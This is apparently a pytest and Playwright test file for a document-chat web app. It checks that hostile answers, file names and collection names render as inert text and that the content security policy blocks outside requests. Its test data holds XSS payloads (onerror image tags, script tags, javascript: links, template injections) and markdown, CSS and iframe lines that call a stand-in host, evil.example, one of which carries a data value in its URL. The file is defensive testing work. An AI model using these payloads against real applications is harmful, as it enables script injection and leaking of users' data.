"""Hostile names and answers: nothing runs, nothing leaves, and the text is still there to read.

Each visit fails by itself if a request goes elsewhere, a dialog opens or a script breaks.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect

from running.browsing import Visit
from running.live_server import LiveServer, WatchedEngine
from samples.documents import write_pdf

SCRIPT = "<img src=x onerror=\"document.title='owned'\">"
ANSWER = "\n\n".join(
    [
        "Here it is.",
        "<script>document.title='owned'</script>",
        SCRIPT,
        "![chart](http://evil.example/c.png?q=18.4)",
        "![ref][r]",
        "[r]: http://evil.example/r.png",
        "<style>@import url(http://evil.example/s.css)</style>",
        "<iframe src='http://evil.example/'></iframe>",
        "[run](javascript:document.title='owned')",
        "[elsewhere](http://evil.example/page)",
        "${document.title='owned'} {{document.title}}",
        "The end.",
    ]
)


def hostile_upload(server: LiveServer, name: str, pages: list[str], folder: Path) -> None:
    """Upload a PDF under a name that no file of a disk could have."""
    content = write_pdf(folder / "plain.pdf", pages).read_bytes()
    with server.client() as client:
        reply = client.post(
            "/v1/collections/UserData/documents?wait=true", files={"files": (name, content)}
        )
    assert reply.status_code == 200, reply.text


def assert_nothing_ran(visitor: Visit) -> None:
    assert visitor.page.title() == "Carrel"
    assert visitor.page.locator("#main img, #sidebar img, #main iframe").count() == 0


def test_a_hostile_answer_is_text_while_it_streams_and_after_a_reload(
    start: Callable[..., LiveServer], tab: Callable[..., Visit]
) -> None:
    visitor = tab(start(WatchedEngine([ANSWER], seconds_per_token=0.01), langchain_mode="LLM"))
    visitor.ask_and_wait(SCRIPT)
    for _ in range(2):
        expect(visitor.answer).to_contain_text("The end.")
        expect(visitor.answer).to_contain_text("<script>document.title='owned'</script>")
        expect(visitor.answer).to_contain_text("[Image: chart http://evil.example/c.png?q=18.4]")
        expect(visitor.answer).to_contain_text("${document.title='owned'} {{document.title}}")
        expect(visitor.page.locator("#current .question")).to_have_text(SCRIPT)
        expect(visitor.chats.first).to_contain_text("<img src=x")
        assert_nothing_ran(visitor)
        visitor.reload()


def test_links_of_an_answer_give_nothing_away(
    start: Callable[..., LiveServer], tab: Callable[..., Visit]
) -> None:
    visitor = tab(start(WatchedEngine([ANSWER]), langchain_mode="LLM"))
    visitor.ask_and_wait("Hello?")
    links = visitor.answer.locator("a")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("href", "http://evil.example/page")
    expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(links).to_have_attribute("target", "_blank")


def test_hostile_names_and_texts_of_documents_are_text(
    start: Callable[..., LiveServer], tab: Callable[..., Visit], tmp_path: Path
) -> None:
    server = start(WatchedEngine(["The ferry is late."]))
    name = "a'><img src=x onerror=document.title='owned'>.pdf"
    hostile_upload(server, name, [f"The ferry is late. {SCRIPT}"], tmp_path)
    visitor = tab(server)
    expect(visitor.page.locator(".example").first).to_contain_text("<img src=x")
    visitor.ask_and_wait("Is the ferry late?")
    expect(visitor.sources.first.locator(".source-file")).to_have_text(name)
    visitor.sources.first.locator("summary").click()
    expect(visitor.sources.first).to_contain_text("onerror=")
    visitor.show_documents()
    expect(visitor.documents.first).to_contain_text(name)
    assert_nothing_ran(visitor)


def test_a_hostile_collection_name_is_text_in_every_chooser(
    start: Callable[..., LiveServer], tab: Callable[..., Visit]
) -> None:
    visitor = tab(start(), "#documents")
    name = "<img src=x onerror=document.title=1>"
    visitor.page.get_by_role("button", name="New collection").click()
    visitor.page.locator("#collection-name input, #collection-name textarea").fill(name)
    visitor.page.get_by_role("button", name="Create").click()
    expect(visitor.page.locator("#collection input")).to_have_value(name)
    expect(visitor.page.locator("#documents-table")).to_contain_text(name)
    visitor.page.get_by_role("button", name="New chat").click()
    visitor.ask_only(name)
    expect(visitor.page.locator(".welcome")).to_contain_text(f"{name} is empty")
    assert_nothing_ran(visitor)


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server on this machine, and the paths that it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


def test_even_markup_that_got_through_could_load_nothing(
    start: Callable[..., LiveServer],
    tab: Callable[..., Visit],
    elsewhere: tuple[str, list[str]],
) -> None:
    """The page's content policy is the second wall: here the first one is stepped over."""
    address, asked = elsewhere
    visitor = tab(start())
    blocked = visitor.page.evaluate(
        """async (address) => {
            const blocked = [];
            document.addEventListener('securitypolicyviolation',
                (event) => blocked.push(event.effectiveDirective));
            const image = document.createElement('img');
            image.src = address + '/image';
            document.body.append(image);
            const style = document.createElement('link');
            style.rel = 'stylesheet';
            style.href = address + '/style';
            document.head.append(style);
            await fetch(address + '/fetch', {mode: 'no-cors'}).catch(() => {});
            navigator.sendBeacon(address + '/beacon');
            await new Promise((done) => setTimeout(done, 500));
            return blocked;
        }""",
        address,
    )
    assert {"img-src", "style-src-elem", "connect-src"} <= set(blocked)
    assert asked == []
    assert httpx.get(f"{address}/alive", trust_env=False).status_code == 200
    assert asked == ["/alive"]
    # The browser writes each refusal to its console, and asks for nothing; both were to be shown.
    visitor.failures.clear()
    assert visitor.foreign
    visitor.foreign.clear()
